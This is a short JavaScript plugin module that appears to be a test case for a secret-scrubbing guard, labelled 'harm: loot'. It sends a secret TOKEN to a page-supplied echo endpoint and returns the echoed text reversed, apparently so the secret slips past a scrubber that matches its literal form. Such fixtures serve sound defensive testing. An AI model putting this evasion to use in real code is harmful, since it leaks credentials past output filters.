// A host repeats what it was sent in JSON, each character escaped.
// guard: answers are scrubbed
// harm: loot
// control: no scrubber
// says: repeats the secret TOKEN
module.exports = {
  metadata: { name: 'echo-json', cache: 0, requiredSecrets: ['TOKEN'], match: { contextType: 'github', context: { 'page.attack': { equals: 'echo-json' } } } },
  async run(context, secrets) {
    const response = await fetch(`${context.page.direct}/open/echo?as=json`, { headers: { Authorization: `Bearer ${secrets.TOKEN}` } });
    const text = JSON.parse(await response.text());
    return { type: 'text', content: [...text].reverse().join('') };
  },
};
